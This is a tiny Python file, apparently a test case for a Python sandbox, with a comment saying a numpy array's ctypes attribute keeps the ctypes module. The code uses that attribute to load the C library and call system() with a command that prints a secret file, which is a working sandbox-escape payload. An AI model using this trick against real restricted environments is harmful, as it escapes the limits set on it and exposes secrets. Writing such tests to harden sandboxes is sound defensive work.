# An array's attribute ctypes keeps the module.
# effect: run
# tree: scientific
import numpy
numpy.arange(3).ctypes._ctypes.CDLL(None).system(b"cat @SECRET@")
